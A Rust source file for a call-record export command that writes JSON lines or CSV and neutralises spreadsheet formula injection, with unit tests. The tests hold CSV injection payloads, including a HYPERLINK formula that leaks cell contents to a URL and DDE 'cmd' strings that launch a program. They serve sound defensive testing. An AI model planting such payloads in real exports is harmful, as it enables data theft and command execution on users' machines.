//! `store export`: every stored call, streamed from the store to a writer, as JSON lines (each
//! call detail as the service sent it) or CSV (the list row's fields and the headline score).
//! Rows are read one at a time, so memory stays flat whatever the store's size.
//!
//! CSV cells are neutralised against formula injection (OWASP's "CSV injection"): a cell that
//! starts with `=`, `+`, `-`, `@`, a tab or a carriage return, and is not a number, gets a `'`
//! in front, so that a spreadsheet shows it as text instead of running it (an agent id of
//! `=HYPERLINK(…)`, say). Numbers (`-3`, `-2.5e3`) are written as they are. JSON lines keep
//! every value exactly as stored.

use std::io::Write;

use serde::Deserialize;
use serde_json::Value;

use super::sql::{Row, params};
use super::{Store, StoreError};

/// The output format of an export.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ExportFormat {
    /// One call detail per line, exactly as the service sent it.
    Jsonl,
    /// One line per call: the list row's fields and the headline score.
    Csv,
}

/// What an export may fail with.
#[derive(Debug, thiserror::Error)]
#[non_exhaustive]
pub enum ExportError {
    /// Reading the store failed.
    #[error(transparent)]
    Store(#[from] StoreError),
    /// Writing the output failed.
    #[error("cannot write the export: {0}")]
    Write(#[from] std::io::Error),
}

/// The CSV columns, in order.
pub const CSV_HEADER: [&str; 16] = [
    "id",
    "source",
    "agentId",
    "agencyId",
    "platformAgentId",
    "platformAgencyId",
    "externalUserId",
    "externalAgencyId",
    "drillKey",
    "startedAt",
    "endedAt",
    "durationSec",
    "scoredAt",
    "updatedAt",
    "overallScore",
    "compliancePercent",
];

/// The list-row fields a CSV line holds, read from the stored row (or the detail, which has
/// them all, when only the detail is stored).
#[derive(Deserialize)]
#[serde(rename_all = "camelCase")]
struct RowFields {
    #[serde(default)]
    agent_id: Option<String>,
    #[serde(default)]
    agency_id: Option<String>,
    #[serde(default)]
    platform_agent_id: Option<String>,
    #[serde(default)]
    platform_agency_id: Option<String>,
    #[serde(default)]
    external_user_id: Option<String>,
    #[serde(default)]
    external_agency_id: Option<String>,
    #[serde(default)]
    drill_key: Option<String>,
    #[serde(default)]
    duration_sec: Option<Value>,
}

impl Store {
    /// Writes the stored calls of `source` (every source when `None`) listed at or after
    /// `since_ms` (unix ms; every call when `None`) to `out`, ordered by source and then by the
    /// time `GET /calls` lists them by. Returns how many calls were written.
    ///
    /// # Errors
    /// A database error or a failed write.
    pub fn export(
        &self,
        source: Option<&str>,
        since_ms: Option<i64>,
        format: ExportFormat,
        out: &mut dyn Write,
    ) -> Result<u64, ExportError> {
        let mut sink = match format {
            ExportFormat::Csv => {
                let mut writer = csv::Writer::from_writer(out);
                writer.write_record(CSV_HEADER).map_err(csv_error)?;
                Sink::Csv(Box::new(writer))
            }
            ExportFormat::Jsonl => Sink::Jsonl(out),
        };
        // JSON lines read the detail alone; CSV the indexed columns, the row and the score.
        let columns = match sink {
            Sink::Jsonl(_) => "detail_json",
            Sink::Csv(_) => {
                "id, source, started_at, ended_at, scored_at, updated_at, score_json,
                 COALESCE(row_json, detail_json)"
            }
        };
        let sql = format!(
            "SELECT {columns} FROM calls
             WHERE source = $1 AND (CAST($2 AS BIGINT) IS NULL OR listed_ms >= $2)
             ORDER BY listed_ms"
        );
        let mut written = 0;
        // A failed write stops the rows; it is kept here, the store only says it stopped.
        let mut write_error = None;
        let read = self.read(|db| {
            let sources: Vec<String> = match source {
                Some(source) => vec![source.to_owned()],
                None => db
                    .query(
                        "SELECT DISTINCT source FROM calls ORDER BY source DESC",
                        &[],
                    )?
                    .iter()
                    .map(|row| row.text(0))
                    .collect::<Result<_, _>>()?,
            };
            for source in &sources {
                db.for_each(&sql, params![source, since_ms], &mut |row| {
                    let line = match &mut sink {
                        Sink::Jsonl(out) => out
                            .write_all(row.text_ref(0)?.as_bytes())
                            .and_then(|()| out.write_all(b"\n"))
                            .map_err(ExportError::Write),
                        Sink::Csv(writer) => csv_line(&row)
                            .and_then(|line| writer.write_record(line).map_err(csv_error)),
                    };
                    match line {
                        Ok(()) => {
                            written += 1;
                            Ok(())
                        }
                        Err(ExportError::Store(err)) => Err(err),
                        Err(err) => {
                            write_error = Some(err);
                            Err(StoreError::Corrupt("the export stopped".into()))
                        }
                    }
                })?;
            }
            Ok(())
        });
        if let Some(err) = write_error {
            return Err(err);
        }
        read?;
        match sink {
            Sink::Jsonl(out) => out.flush()?,
            Sink::Csv(mut writer) => writer.flush()?,
        }
        Ok(written)
    }
}

/// Where export lines go.
enum Sink<'w> {
    Jsonl(&'w mut dyn Write),
    Csv(Box<csv::Writer<&'w mut dyn Write>>),
}

fn csv_error(error: csv::Error) -> ExportError {
    match error.into_kind() {
        csv::ErrorKind::Io(io) => ExportError::Write(io),
        other => ExportError::Write(std::io::Error::other(format!("{other:?}"))),
    }
}

fn csv_line(row: &Row) -> Result<[String; 16], ExportError> {
    let text =
        |i: usize| -> Result<String, ExportError> { Ok(row.opt_text(i)?.unwrap_or_default()) };
    let id = text(0)?;
    let fields: RowFields = serde_json::from_str(row.text_ref(7)?)
        .map_err(|e| StoreError::Corrupt(format!("the row of call {id}: {e}")))?;
    let score: Value = serde_json::from_str(row.text_ref(6)?)
        .map_err(|e| StoreError::Corrupt(format!("the score of call {id}: {e}")))?;
    let plain = |value: Option<&Value>| match value {
        None | Some(Value::Null) => String::new(),
        Some(Value::String(s)) => s.clone(),
        Some(other) => other.to_string(),
    };
    let cells = [
        id,
        text(1)?,
        fields.agent_id.unwrap_or_default(),
        fields.agency_id.unwrap_or_default(),
        fields.platform_agent_id.unwrap_or_default(),
        fields.platform_agency_id.unwrap_or_default(),
        fields.external_user_id.unwrap_or_default(),
        fields.external_agency_id.unwrap_or_default(),
        fields.drill_key.unwrap_or_default(),
        text(2)?,
        text(3)?,
        plain(fields.duration_sec.as_ref()),
        text(4)?,
        text(5)?,
        plain(score.get("overallScore")),
        plain(score.get("compliancePercent")),
    ];
    Ok(cells.map(neutralise))
}

/// `cell` as a spreadsheet shows it as text: with a `'` in front when it starts like a
/// formula (`=`, `+`, `-`, `@`, tab, carriage return) and is not a number.
fn neutralise(cell: String) -> String {
    match cell.chars().next() {
        Some('=' | '+' | '-' | '@' | '\t' | '\r') if !is_number(&cell) => format!("'{cell}"),
        _ => cell,
    }
}

/// Whether `text` is a plain decimal number (an optional sign, digits, a fraction, an
/// exponent): what a spreadsheet reads as a number and never as a formula.
fn is_number(text: &str) -> bool {
    let digits = text.strip_prefix(['+', '-']).unwrap_or(text);
    digits.starts_with(|c: char| c.is_ascii_digit() || c == '.')
        && digits
            .chars()
            .all(|c| c.is_ascii_digit() || matches!(c, '.' | 'e' | 'E' | '+' | '-'))
        && text.parse::<f64>().is_ok_and(f64::is_finite)
}

#[cfg(test)]
mod tests {
    use super::{is_number, neutralise};

    #[test]
    fn cells_that_start_like_a_formula_are_prefixed_and_numbers_are_not() {
        for (cell, written) in [
            (
                "=HYPERLINK(\"http://x\"&A1,\"c\")",
                "'=HYPERLINK(\"http://x\"&A1,\"c\")",
            ),
            ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
            ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
            ("@SUM(1+1)", "'@SUM(1+1)"),
            ("\t=1+1", "'\t=1+1"),
            ("\r=1+1", "'\r=1+1"),
            ("-inf", "'-inf"),
            ("-NaN", "'-NaN"),
            ("-", "'-"),
            ("-3", "-3"),
            ("-2.5e3", "-2.5e3"),
            ("+7", "+7"),
            ("svc_agent_1", "svc_agent_1"),
            ("a=b", "a=b"),
            ("", ""),
        ] {
            assert_eq!(neutralise(cell.to_owned()), written, "{cell:?}");
        }
        assert!(is_number("90.0") && is_number("-0.5") && !is_number("1-1"));
    }
}
